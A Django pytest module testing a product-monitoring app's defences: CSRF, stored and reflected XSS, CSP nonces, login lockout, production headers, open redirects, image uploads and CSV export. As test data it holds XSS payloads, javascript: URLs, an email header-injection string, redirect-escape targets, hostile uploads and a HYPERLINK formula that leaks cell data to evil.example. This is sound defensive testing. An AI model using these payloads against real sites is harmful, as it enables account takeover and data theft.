"""Security, beyond access (tests/security/test_access_matrix.py) and SSRF (tests/monitoring/fetch/test_client.py): CSRF on every
route, htmx included, and foreign origins refused; stored XSS from scraped pages in every page, fragment and
email, under a Content-Security-Policy with a nonce; sign-in brute force locked out with a cool-off that
ends; production headers and cookies; uploads that are only images and never active; CSV export safe from
formulas; redirects that stay on the site. See SECURITY.md."""

import csv
import io
import json
import os
import re
import secrets
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from decimal import Decimal as D

import pytest
import time_machine
from django.conf import settings
from django.test import Client
from django.urls import reverse
from PIL import Image

from monitoring.alerts import email as alerts
from monitoring.models import Email
from monitoring.observation import Observation, StoreInfo
from monitoring.sources.observe import Reading
from monitoring.statuses import CheckStatus
from orderlog.models import OrderPhoto
from orderlog.reminders import generate_reminders
from suppliers import intake, services
from suppliers.models import Product
from tests.config.test_deployment import _run
from tests.support.paths import ROOT
from tests.support.security_world import (
    ALL_ROUTES,
    APP_ROUTES,
    CSRF_EXEMPT,
    ID_ROUTES,
    _check,
    assert_safe_html,
    body_of,
    build_world,
    content_of,
    csp_directives,
    diff,
    problems_in_html,
    snapshot,
    upload,
    url_for,
)

pytestmark = pytest.mark.django_db

HX = {"HTTP_HX_REQUEST": "true"}
APP_ROUTE_NAMES = sorted(r.name for r in APP_ROUTES)


@pytest.fixture
def world(alice, media, queue):
    """One of everything for alice (the outsider's side is tests/security/test_access_matrix.py)."""
    w = build_world(alice, "ALICEMARK")
    queue.clear()
    return w


def post(client, url, data=None, **extra):
    return client.post(url, data or {}, **extra)


# --- CSRF ---------------------------------------------------------------------------------------------


def csrf_client(user) -> tuple[Client, str]:
    """A browser that enforces CSRF like production, and the token htmx sends (read from <body hx-headers>)."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    page = client.get(reverse("dashboard")).content.decode()
    match = re.search(r"<body hx-headers='([^']*)'", page)
    assert match, "base.html must give htmx the CSRF token in <body hx-headers>"
    token = json.loads(match.group(1))["x-csrftoken"]
    assert len(token) == 64
    return client, token


def test_only_the_listed_views_are_csrf_exempt():
    exempt = {r.name for r in ALL_ROUTES if getattr(r.callback, "csrf_exempt", False)}
    assert exempt == CSRF_EXEMPT


def test_every_page_gives_htmx_the_token(alice):
    client, _token = csrf_client(alice)
    for name in ("supplier_list", "product_list", "test_order_list", "settings", "login"):
        body = client.get(reverse(name)).content.decode()
        assert "<body hx-headers='{&quot;x-csrftoken&quot;" not in body  # JSON, not escaped into nonsense
        assert re.search(r"<body hx-headers='\{\"x-csrftoken\": \"[A-Za-z0-9]{64}\"\}'>", body), name


@pytest.mark.parametrize("name", APP_ROUTE_NAMES)
def test_a_post_without_the_token_is_refused_and_changes_nothing(name, world, alice, queue):
    """Every route, POST-only or not: no token → 403 and nothing changed; a foreign Origin → 403 even with
    the token; the token as the X-CSRFToken header of an htmx request → let through."""
    a = world
    spec = ID_ROUTES.get(name)
    url = url_for(name, spec.own_kwargs(a, a) if spec else None)
    data = (lambda: spec.data(a)) if spec else dict
    client, token = csrf_client(alice)
    if name in CSRF_EXEMPT:
        assert post(client, url, data()).status_code != 403
        return
    for extra in ({}, HX, {"HTTP_ORIGIN": "https://evil.example", "HTTP_X_CSRFTOKEN": token, **HX}):
        before = snapshot()
        response = post(client, url, data(), **extra)
        assert response.status_code == 403, (url, extra, response.status_code)
        assert not diff(before, snapshot()), (url, extra)
        assert queue == []
    accepted = post(client, url, data(), HTTP_X_CSRFTOKEN=token, **HX)
    assert accepted.status_code != 403, url


@pytest.mark.parametrize(
    ("extra", "secure", "ok"),
    [
        ({"HTTP_ORIGIN": "http://testserver"}, False, True),
        ({"HTTP_ORIGIN": "https://testserver"}, True, True),
        ({"HTTP_ORIGIN": "https://evil.example"}, False, False),
        ({"HTTP_ORIGIN": "https://evil.example"}, True, False),
        ({"HTTP_ORIGIN": "null"}, True, False),
        ({"HTTP_ORIGIN": "http://testserver"}, True, False),  # a downgraded origin on an https site
        ({"HTTP_REFERER": "https://evil.example/page"}, True, False),
        ({"HTTP_REFERER": "https://testserver/findings/"}, True, True),
        ({}, True, False),  # https and neither Origin nor Referer
    ],
    ids=lambda v: json.dumps(v) if isinstance(v, dict) else str(v),
)
def test_origins_and_referers(extra, secure, ok, world, alice):
    a = world
    client, token = csrf_client(alice)
    url = reverse("finding_action", args=[a.finding.pk, "acknowledge"])
    response = client.post(url, HTTP_X_CSRFTOKEN=token, secure=secure, **HX, **extra)
    assert (response.status_code != 403) is ok, response.status_code
    a.finding.refresh_from_db()
    assert (a.finding.acknowledged_at is not None) is ok


def test_a_trusted_origin_behind_a_proxy_is_accepted(world, alice, settings):
    a = world
    settings.CSRF_TRUSTED_ORIGINS = ["https://dropwatch.example.com"]
    client, token = csrf_client(alice)
    url = reverse("finding_action", args=[a.finding.pk, "acknowledge"])
    response = client.post(url, HTTP_X_CSRFTOKEN=token, HTTP_ORIGIN="https://dropwatch.example.com", secure=True, **HX)
    assert response.status_code == 200


def test_the_login_form_itself_needs_the_token(alice):
    client = Client(enforce_csrf_checks=True)
    response = client.post(reverse("login"), {"username": "alice", "password": "alice-password-1"})
    assert response.status_code == 403
    assert client.get(reverse("dashboard")).status_code == 302


# --- stored XSS -----------------------------------------------------------------------------------------

# Scraped text: template syntax first (lists truncate), markup, an attribute breakout, a header injection.
XSS = (
    "{{ 7|add:7 }}{% csrf_token %}{{ request.user.password }}"
    '<script>alert(1)</script><img src=x onerror=alert(1)>"><svg onload=alert(1)>'
    "'-alert(1)-'\r\nBcc: evil@example.com"
)
TYPED = "{{ 8|add:8 }}<script>alert(2)</script><img src=x onerror=alert(2)>"
LITERAL = "{{ 7|add:7 }}{% csrf_token %}"  # shown as typed: never evaluated
JS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]


def assert_inert(response, where):
    assert_safe_html(response, where=where)
    body = body_of(response)
    assert "<script>alert" not in body and "<img src=x" not in body and "<svg onload" not in body, where
    assert "Bcc: evil" not in response.serialize_headers().decode(errors="replace"), where


@pytest.fixture
def xss(alice, media, queue):
    """Alice's world, built from a hostile shop: its title, store name, labels and reviews carry XSS; her
    own notes too. Plus a product and a store whose saved addresses are javascript: URLs (never accepted by
    the forms: written directly, to prove the templates hold on their own), and a check that was blocked
    with a hostile message."""
    world = build_world(alice, "ALICEMARK", text=XSS, order_text=TYPED)
    js_product = services.product_create(owner=alice, url="https://shop.example/products/js", title="JS product")
    Product.objects.filter(pk=js_product.pk).update(url=JS_URLS[0])
    js_supplier = services.supplier_create(owner=alice, name="JS store", store_url="https://shop.example/js-store")
    type(js_supplier).objects.filter(pk=js_supplier.pk).update(store_url=JS_URLS[0])
    blocked = services.product_create(owner=alice, url="https://shop.example/products/blocked", title="Blocked")
    at = datetime.now(UTC) - timedelta(hours=1)
    _check(blocked, Observation.failed(CheckStatus.BLOCKED, XSS, url=blocked.url), at)
    generate_reminders(now=datetime.now(UTC))
    alerts.build_emails(now=datetime.now(UTC))
    queue.clear()
    return world, js_product, js_supplier, blocked


@pytest.mark.parametrize("name", APP_ROUTE_NAMES)
def test_every_page_and_fragment_renders_scraped_text_inert(name, xss, alice_client, bob):
    world, *_ = xss
    spec = ID_ROUTES.get(name)
    url = url_for(name, spec.own_kwargs(world, world) if spec else None)
    rendered = 0
    statuses = set()
    for extra in ({}, HX):
        response = alice_client.get(url, **extra)
        statuses.add(response.status_code)
        if response.status_code not in (301, 302, 405) and response["Content-Type"].startswith("text/html"):
            assert_inert(response, f"{name} {extra}")
            rendered += 1
    if name in SHOWS_SCRAPED_TEXT:
        body = body_of(alice_client.get(url))
        assert LITERAL in body, f"{name}: the scraped template syntax should be shown as it is"
        if name in SHOWS_ALL_OF_IT:
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body, name
    downloads = (
        "product_import_example",
        "test_order_export",
        "test_order_evidence",
        "healthz",
        "test_order_photo",
        *HISTORY_EXPORTS,
    )
    if statuses != {405} and name not in downloads:
        assert rendered, f"{name}: no HTML rendered ({statuses})"


HISTORY_EXPORTS = ("product_history_csv", "product_history_json", "supplier_history_csv", "supplier_history_json")
SHOWS_ALL_OF_IT = {"product_detail", "supplier_detail", "email_detail"}  # elsewhere titles are truncated
SHOWS_SCRAPED_TEXT = {
    "dashboard",
    "product_list",
    "product_detail",
    "supplier_list",
    "supplier_detail",
    "finding_list",
    "finding_detail",
    "test_order_list",
    "test_order_detail",
    "email_detail",
    "store_list",  # the store variant titles (a store is as untrusted as a shop page)
    "store_unmapped",
    "store_variant_map",
}


def test_saved_javascript_urls_are_never_links(xss, alice_client):
    _, js_product, js_supplier, _ = xss
    for bad in JS_URLS:
        Product.objects.filter(pk=js_product.pk).update(url=bad)
        type(js_supplier).objects.filter(pk=js_supplier.pk).update(store_url=bad)
        for url in (js_product.get_absolute_url(), js_supplier.get_absolute_url(), reverse("product_list")):
            response = alice_client.get(url)
            assert response.status_code == 200, (bad, url)
            assert_inert(response, f"{url} with {bad!r}")


def test_fragments_answering_actions_render_scraped_text_inert(xss, alice_client, monkeypatch):
    world, _, _, blocked = xss
    order = world.order
    future = (datetime.now(UTC) + timedelta(days=3)).date().isoformat()
    cases = [
        ("POST", reverse("finding_action", args=[world.finding.pk, "acknowledge"]), {}, HX),
        ("POST", reverse("finding_action", args=[world.finding.pk, "snooze"]), {"until": "2001-01-01"}, HX),
        ("POST", reverse("finding_action", args=[world.finding.pk, "snooze"]), {"until": "2001-01-01"}, {}),
        ("POST", reverse("finding_action", args=[world.finding.pk, "snooze"]), {"until": future}, HX),
        ("POST", reverse("check_now", args=["product", world.product.pk]), {}, HX),
        ("POST", reverse("check_now", args=["product", blocked.pk]), {}, HX),
        ("GET", reverse("check_status", args=["product", blocked.pk]), {}, HX),
        ("POST", reverse("check_now", args=["supplier", world.supplier.pk]), {}, HX),
        ("GET", reverse("test_order_ship", args=[order.pk]), {}, HX),
        ("POST", reverse("test_order_status", args=[order.pk]), {"status": "disputed"}, HX),
        ("POST", reverse("test_order_status", args=[order.pk]), {"status": "nonsense"}, HX),
        ("POST", reverse("test_order_photo_add", args=[order.pk]), {"photos": [upload()]}, HX),
        ("POST", reverse("test_order_photo_add", args=[order.pk]), {"photos": [upload("a.svg", b"<svg/>")]}, HX),
        (
            "POST",
            reverse("test_order_add") + f"?supplier={world.supplier.pk}",
            {"supplier": world.supplier.pk, "ordered_on": "2026-01-10", "notes": TYPED, "order_number": TYPED},
            HX,
        ),
        ("POST", reverse("test_order_add") + f"?supplier={world.supplier.pk}", {"amount_paid": TYPED}, HX),
        ("POST", reverse("settings"), {"n-email": TYPED}, {}),
    ]
    hostile = Observation(
        status=CheckStatus.OK,
        platform="aliexpress",
        title=XSS,
        price=D("10"),
        currency="USD",
        labels=[XSS],
        store=StoreInfo(id="666", name=XSS, url="javascript:alert(1)"),
    )
    monkeypatch.setattr(intake, "read_url", lambda url, **kw: Reading(hostile))
    item = "https://www.aliexpress.com/item/1005001234567890.html"
    store = "https://www.aliexpress.com/store/4682001"
    for extra in ({}, HX):
        cases += [
            ("POST", reverse("product_add"), {"step": "preview", "url": item}, extra),
            ("POST", reverse("product_add"), {"step": "confirm", "url": item, "token": TYPED}, extra),
            ("POST", reverse("product_add"), {"step": "preview", "url": f"https://shop.example/{TYPED}"}, extra),
            ("POST", reverse("supplier_add_url"), {"step": "preview", "store_url": store}, extra),
            ("POST", reverse("supplier_add_url"), {"step": "add", "store_url": store, "name": TYPED}, extra),
        ]
    rows = f"url,my_price,notes\n{item}?x=<script>alert(1)</script>,{TYPED},x\n<img src=x onerror=alert(1)>,1,x\n"
    for extra in ({}, HX):
        cases.append(("POST", reverse("product_import"), {"file": upload("p.csv", rows.encode(), "text/csv")}, extra))
    for method, url, data, extra in cases:
        response = alice_client.get(url, **extra) if method == "GET" else alice_client.post(url, data, **extra)
        assert response.status_code in (200, 286, 302, 400), (method, url, data, response.status_code)
        if response.status_code != 302:
            assert_inert(response, f"{method} {url} {data}")
    preview = alice_client.post(reverse("product_add"), {"step": "preview", "url": item}, **HX).content.decode()
    assert LITERAL in preview and "&lt;script&gt;alert(1)&lt;/script&gt;" in preview


def test_alert_and_reminder_emails_render_scraped_text_inert(xss, alice):
    emails = list(Email.objects.filter(owner=alice))
    assert {e.kind for e in emails} >= {Email.Kind.ALERT, Email.Kind.REMINDER}, [e.kind for e in emails]
    for email in emails:
        message = alerts.render(email)
        assert "\r" not in email.subject and "\n" not in email.subject
        mime = message.message()  # builds the headers: a newline in one would raise BadHeaderError
        assert mime["Bcc"] is None and message.recipients() == ["alice@example.com"]
        html = message.alternatives[0][0]
        assert not problems_in_html(html, nonce=None, scripts=False), (email.kind, problems_in_html(html, nonce=None))
        assert "<script>alert" not in html and "<img src=x" not in html, email.kind
        links = re.findall(r'href="([^"]*)"', html)
        assert links and all(link.startswith(settings.SITE_URL + "/") for link in links), links
    alert = next(e for e in emails if e.kind == Email.Kind.ALERT)
    message = alerts.render(alert)
    assert LITERAL in message.body  # the text part shows the title as it is, unevaluated
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in message.alternatives[0][0]
    reminder = alerts.render(next(e for e in emails if e.kind == Email.Kind.REMINDER))
    assert "<script>alert(2)" not in reminder.alternatives[0][0]


REFLECTED = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7|add:7 }}'


@pytest.mark.parametrize(
    "name", ["dashboard", "supplier_list", "product_list", "finding_list", "test_order_list", "email_log"]
)
def test_query_parameters_are_reflected_inert(name, world, alice_client):
    """What a crafted link puts in the query string (search, sort, filters, page) comes back escaped."""
    query = {key: REFLECTED for key in ("q", "sort", "status", "show", "page", "supplier")}
    query["supplier"] = ""  # an id that is not a number is a 404 on the test-order list, tested elsewhere
    for extra in ({}, HX):
        response = alice_client.get(reverse(name), query, **extra)
        # 404 for the test-order list: a ListView refuses a page number that is not one.
        assert response.status_code in ((200, 404) if name == "test_order_list" else (200,)), name
        assert_inert(response, f"{name} {extra}")


def test_the_login_page_reflects_next_inert(client):
    response = client.get(reverse("login"), {"next": REFLECTED})
    assert response.status_code == 200
    assert_inert(response, "login")


def test_our_templates_hold_no_inline_script_or_handler():
    """Only `{% htmx_script %}` (given the nonce) loads a script; no on*= or hx-on attributes, no javascript:
    links, no |safe or autoescape off in HTML templates."""
    found = []
    for path in sorted((ROOT / "templates").rglob("*.html")):
        text = path.read_text()
        # The API docs page loads the bundled Swagger UI: two same-origin scripts with the nonce, checked
        # under the CSP by tests/test_api.py (test_the_docs_page_works_under_the_apps_csp).
        if path.relative_to(ROOT).as_posix() == "templates/ninja/swagger.html":
            text = text.replace(
                '<script src="{% static \'ninja/swagger-ui-bundle.js\' %}" nonce="{{ CSP_NONCE }}">', ""
            )
            text = text.replace('<script src="{% static \'api/swagger-init.js\' %}" nonce="{{ CSP_NONCE }}">', "")
        for pattern in (
            r"<script",
            r"\son[a-z]+\s*=",
            r"hx-on",
            r"javascript:",
            r"\|\s*safe",
            r"autoescape off",
            r"hx-vals='js:",
        ):
            for match in re.finditer(pattern, text, re.IGNORECASE):
                found.append(f"{path.relative_to(ROOT)}: {match.group(0)!r}")
    assert not found, found
    assert "{% with csp_nonce=CSP_NONCE %}{% htmx_script %}" in (ROOT / "templates" / "base.html").read_text()
    assert '"allowEval": false' in (ROOT / "templates" / "base.html").read_text()


# --- the Content-Security-Policy -------------------------------------------------------------------


def test_the_htmx_script_carries_the_nonce_of_its_response(alice_client, client):
    for c, name in ((alice_client, "dashboard"), (client, "login")):
        response = c.get(reverse(name))
        directives = csp_directives(response)
        nonce = next(s[7:-1] for s in directives["script-src"] if s.startswith("'nonce-"))
        scripts = re.findall(r"<script[^>]*>", response.content.decode())
        assert scripts and all(f'nonce="{nonce}"' in s for s in scripts), scripts
        assert any("htmx" in s for s in scripts)
        assert directives["default-src"] == ["'self'"] and directives["form-action"] == ["'self'"]
        assert directives["base-uri"] == ["'self'"]
        assert_safe_html(response)
    first, second = (csp_directives(alice_client.get(reverse("dashboard")))["script-src"] for _ in range(2))
    assert first != second  # a fresh nonce per response


def test_every_kind_of_response_carries_the_policy(world, alice_client, client):
    a = world
    responses = [
        client.get(reverse("login")),
        alice_client.get(reverse("dashboard")),
        alice_client.get(reverse("product_list"), **HX),
        alice_client.get("/no-such-page/"),
        alice_client.get(reverse("product_detail", args=[a.product.pk + 1000])),
        alice_client.post(reverse("finding_action", args=[a.finding.pk, "acknowledge"]), **HX),
        alice_client.get(reverse("test_order_export")),
    ]
    for response in responses:
        policy = response.get("Content-Security-Policy", "")
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy, response
        assert "'unsafe-inline'" not in csp_directives(response).get("script-src", []), policy


# --- sign-in brute force -------------------------------------------------------------------------------

ATTACKER = "203.0.113.5"


def sign_in(client, username, password, ip=ATTACKER, url=None):
    return client.post(url or reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip)


def signed_in(client) -> bool:
    return client.get(reverse("dashboard")).status_code == 200


def test_wrong_passwords_lock_the_account_out_until_the_cool_off_ends(alice, bob):
    limit, cool_off = settings.AXES_FAILURE_LIMIT, settings.AXES_COOLOFF_TIME
    assert limit <= 10 and timedelta(minutes=1) <= cool_off <= timedelta(hours=24)
    client = Client()
    with time_machine.travel(datetime(2026, 11, 1, 12, tzinfo=UTC), tick=False) as traveller:
        for attempt in range(1, limit):
            response = sign_in(client, "alice", f"guess-{attempt}")
            assert response.status_code == 200 and "Please enter a correct username" in response.content.decode()
        locked = sign_in(client, "alice", "guess-last")
        assert locked.status_code == 429 and "Too many failed sign-in attempts" in locked.content.decode()
        assert_safe_html(locked, where="lockout page")

        right = sign_in(client, "alice", "alice-password-1")
        assert right.status_code == 429 and not signed_in(client)

        other = Client()
        assert sign_in(other, "bob", "bob-password-1").status_code == 302 and signed_in(other)

        traveller.shift(cool_off - timedelta(minutes=1))
        assert sign_in(client, "alice", "alice-password-1").status_code == 429 and not signed_in(client)
        traveller.shift(cool_off + timedelta(seconds=1))
        response = sign_in(client, "alice", "alice-password-1")
        assert response.status_code == 302 and signed_in(client)


def test_the_lockout_covers_the_admin_login_too(django_user_model):
    django_user_model.objects.create_user("root", "root@example.com", "root-password-1", is_staff=True)
    client = Client()
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        sign_in(client, "root", f"guess-{attempt}", url=reverse("admin:login"))
    assert sign_in(client, "root", "root-password-1").status_code == 429
    assert sign_in(client, "root", "root-password-1", url=reverse("admin:login")).status_code == 429
    assert client.get(reverse("admin:index")).status_code == 302


def test_the_lockout_is_per_account_and_address(alice):
    """An attacker guessing from one address does not lock alice out of her own (see SECURITY.md for the
    trade-off behind a proxy)."""
    attacker = Client()
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        sign_in(attacker, "alice", f"guess-{attempt}")
    assert sign_in(attacker, "alice", "alice-password-1").status_code == 429
    home = Client()
    assert sign_in(home, "alice", "alice-password-1", ip="198.51.100.7").status_code == 302 and signed_in(home)
    # X-Forwarded-For is not believed: it would let an attacker pick a fresh address per guess.
    spoofed = Client()
    response = spoofed.post(
        reverse("login"),
        {"username": "alice", "password": "alice-password-1"},
        REMOTE_ADDR=ATTACKER,
        HTTP_X_FORWARDED_FOR="198.51.100.99",
    )
    assert response.status_code == 429


# --- production settings -------------------------------------------------------------------------------

PRODUCTION_PROBE = r"""
import json
from unittest import mock

import django

django.setup()
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client

call_command("migrate", verbosity=0, interactive=False)
get_user_model().objects.create_user("carol", "carol@example.com", "carol-password-1")


def cookies(response):
    return {
        name: {"secure": bool(m["secure"]), "httponly": bool(m["httponly"]), "samesite": m["samesite"]}
        for name, m in response.cookies.items()
    }


https = {"HTTP_X_FORWARDED_PROTO": "https"}
out = {"debug": settings.DEBUG}
client = Client(HTTP_HOST="dropwatch.example.com")
r = client.get("/accounts/login/")
out["plain_http"] = [r.status_code, r.get("Location", "")]
r = client.get("/accounts/login/", **https)
out["login_page"] = {"status": r.status_code, "headers": dict(r.headers), "cookies": cookies(r)}
r = client.post("/accounts/login/", {"username": "carol", "password": "carol-password-1"}, **https)
out["signed_in"] = {"status": r.status_code, "cookies": cookies(r), "headers": dict(r.headers)}
r = client.get("/no/such/page/", **https)
out["not_found"] = {"status": r.status_code, "body": r.content.decode()}
client.raise_request_exception = False
with mock.patch("dashboard.selectors.overview", side_effect=RuntimeError("boom " + settings.SECRET_KEY)):
    r = client.get("/", **https)
out["error"] = {"status": r.status_code, "body": r.content.decode()}
out["bad_host"] = Client(HTTP_HOST="evil.example").get("/accounts/login/", **https).status_code
print("PROBE" + json.dumps(out))
"""


@pytest.fixture(scope="module")
def production(tmp_path_factory):
    """A real request cycle with config/settings.py in production mode (no DEBUG, no LOCAL_MODE)."""
    tmp = tmp_path_factory.mktemp("production")
    skip = {"SECRET_KEY", "DEBUG", "LOCAL_MODE", "DEMO_MODE", "DATABASE_URL", "REDIS_URL", "EMAIL_URL", "DATA_DIR"}
    env = {k: v for k, v in os.environ.items() if k not in skip}
    secret = secrets.token_urlsafe(50)
    env.update(
        DJANGO_SETTINGS_MODULE="config.settings",
        DATA_DIR=str(tmp),
        SECRET_KEY=secret,
        ALLOWED_HOSTS="dropwatch.example.com",
        DATABASE_URL=f"sqlite:///{tmp}/db.sqlite3",
        STATIC_ROOT=str(tmp / "static"),
    )
    # Production serves collected, hashed static files (as the Dockerfile builds them).
    collected = subprocess.run(
        [sys.executable, "manage.py", "collectstatic", "--noinput", "-v0"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert collected.returncode == 0, collected.stderr[-3000:]
    result = subprocess.run(
        [sys.executable, "-c", PRODUCTION_PROBE], cwd=ROOT, env=env, capture_output=True, text=True, timeout=300
    )
    line = next((x for x in result.stdout.splitlines() if x.startswith("PROBE")), None)
    assert line, result.stdout[-3000:] + result.stderr[-3000:]
    return json.loads(line[len("PROBE") :]), secret


def test_production_redirects_to_https_and_sends_the_security_headers(production):
    out, _ = production
    assert out["debug"] is False
    assert out["plain_http"] == [301, "https://dropwatch.example.com/accounts/login/"]
    headers = out["login_page"]["headers"]
    assert out["login_page"]["status"] == 200
    hsts = headers["Strict-Transport-Security"]
    assert "max-age=31536000" in hsts and "includeSubDomains" in hsts
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "script-src 'self' 'nonce-" in headers["Content-Security-Policy"]
    assert out["bad_host"] == 400


def test_production_cookies_are_secure(production):
    out, _ = production
    csrf = out["login_page"]["cookies"]["csrftoken"]
    assert csrf["secure"] and csrf["samesite"] == "Lax"
    assert out["signed_in"]["status"] == 302
    session = out["signed_in"]["cookies"]["sessionid"]
    assert session["secure"] and session["httponly"] and session["samesite"] == "Lax"


def test_production_error_pages_show_no_debug_information(production):
    out, secret = production
    for key in ("not_found", "error"):
        body = out[key]["body"]
        for leak in ("Traceback", "URLconf", "DEBUG = True", "settings", "boom", secret, "Request Method"):
            assert leak not in body, (key, leak)
    assert out["not_found"]["status"] == 404 and out["error"]["status"] == 500


def test_check_deploy_refuses_demo_mode(tmp_path):
    """DEMO_MODE allow-lists a port on this machine for the fetcher and allows a known password: the
    production check fails on it (tests/config/test_deployment.py runs the passing case)."""
    result = _run(
        ["manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        {
            "SECRET_KEY": secrets.token_urlsafe(50),
            "ALLOWED_HOSTS": "dropwatch.example.com",
            "EMAIL_URL": "smtp+tls://user:pass@mail.example.com:587",
            "REDIS_URL": "redis://127.0.0.1:6379/0",
            "DATABASE_URL": f"sqlite:///{tmp_path}/db.sqlite3",
            "DEMO_MODE": "1",
        },
        tmp_path,
    )
    assert result.returncode != 0 and "dropwatch.W004" in result.stdout + result.stderr


def test_a_500_in_the_test_settings_shows_no_traceback_either(alice_client, monkeypatch):
    monkeypatch.setattr("dashboard.selectors.overview", lambda *a, **k: 1 / 0)
    alice_client.raise_request_exception = False
    response = alice_client.get(reverse("dashboard"))
    assert response.status_code == 500
    assert "ZeroDivisionError" not in response.content.decode() and "Traceback" not in response.content.decode()


# --- redirects stay on the site ------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "/\t/evil.example",
        "///evil.example",
        " //evil.example",
        "javascript:alert(1)",
    ],
)
def test_the_next_of_a_finding_action_never_leaves_the_site(target, world, alice_client):
    a = world
    response = alice_client.post(reverse("finding_action", args=[a.finding.pk, "unsnooze"]), {"next": target})
    location = response["Location"]
    assert response.status_code == 302
    assert location.startswith("/") and not location.startswith("//") and "\\" not in location, location
    assert not location.lower().startswith("/javascript"), location


def test_the_login_next_never_leaves_the_site(alice):
    client = Client()
    response = client.post(
        reverse("login") + "?next=https://evil.example/",
        {"username": "alice", "password": "alice-password-1", "next": "https://evil.example/"},
    )
    assert response.status_code == 302 and response["Location"] == reverse("dashboard")


# --- uploads ---------------------------------------------------------------------------------------------


def png_with_html() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 0, 0)).save(out, "PNG")
    return out.getvalue() + b"<html><script>alert(document.cookie)</script></html>"


def test_an_image_carrying_html_is_served_as_an_inert_image(world, alice_client, bob_client, media):
    a = world
    url = reverse("test_order_photo_add", args=[a.order.pk])
    response = alice_client.post(url, {"photos": [upload("evil.html", png_with_html(), "text/html")]})
    assert response.status_code == 302
    photo = OrderPhoto.objects.filter(order=a.order).latest("pk")
    assert photo.content_type == "image/png" and photo.image.name.endswith(".png")
    served = alice_client.get(photo.get_absolute_url())
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert served["Cross-Origin-Resource-Policy"] == "same-origin"
    assert served["Cache-Control"].startswith("private")
    assert "evil" not in served["Content-Disposition"] and ".html" not in served["Content-Disposition"]
    assert content_of(served).startswith(b"\x89PNG")
    assert bob_client.get(photo.get_absolute_url()).status_code == 404


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        (
            "x.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
            "image/svg+xml",
        ),
        ("x.png", b"<html><script>alert(1)</script></html>", "image/png"),
        ("x.gif", b"GIF89a<script>alert(1)</script>", "image/gif"),
        ("x.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", "application/pdf"),
    ],
    ids=["svg", "html-as-png", "fake-gif", "pdf"],
)
def test_what_is_not_a_photo_is_refused_at_the_door(name, content, content_type, world, alice_client, media):
    a = world
    before = snapshot()
    url = reverse("test_order_photo_add", args=[a.order.pk])
    response = alice_client.post(url, {"photos": [upload(name, content, content_type)]}, **HX)
    body = response.content.decode()
    assert response.status_code == 200
    assert "is not a JPEG, PNG, WebP or GIF image" in body or "is damaged or incomplete" in body
    assert not diff(before, snapshot())


def test_a_decompression_bomb_is_refused(world, alice_client, media):
    """A small file that would decode to a huge image is refused by its header, before decoding."""
    a = world
    out = io.BytesIO()
    Image.new("1", (12000, 6000)).save(out, "PNG", optimize=True)
    assert len(out.getvalue()) < settings.TEST_ORDER_PHOTO_MAX_BYTES
    before = snapshot()
    url = reverse("test_order_photo_add", args=[a.order.pk])
    response = alice_client.post(url, {"photos": [upload("bomb.png", out.getvalue())]}, **HX)
    assert "has too many pixels" in response.content.decode()
    assert not diff(before, snapshot())


def test_an_oversize_upload_is_refused(world, alice_client, media, settings):
    a = world
    settings.TEST_ORDER_PHOTO_MAX_BYTES = 1000
    before = snapshot()
    big = io.BytesIO()
    Image.frombytes("RGB", (64, 64), os.urandom(64 * 64 * 3)).save(big, "PNG")
    url = reverse("test_order_photo_add", args=[a.order.pk])
    response = alice_client.post(url, {"photos": [upload("big.png", big.getvalue())]}, **HX)
    assert "a photo can be at most" in response.content.decode()
    assert not diff(before, snapshot())


# --- CSV export ----------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_scraped_formulas_in_the_export_are_neutralised(alice, media, queue, alice_client):
    """The store name and product title come from the shop's page: a hostile shop must not get a formula
    into the user's spreadsheet."""
    build_world(alice, "ALICEMARK", text=FORMULA, order_text="+SUM(1,2)")
    response = alice_client.get(reverse("test_order_export"))
    assert response["Content-Type"] == "text/csv; charset=utf-8" and response["X-Content-Type-Options"] == "nosniff"
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["supplier"] == "'" + FORMULA and row["product"] == "'" + FORMULA
    assert row["order_number"] == "'+SUM(1,2)" and row["notes"] == "'+SUM(1,2)"
    for value in row.values():
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
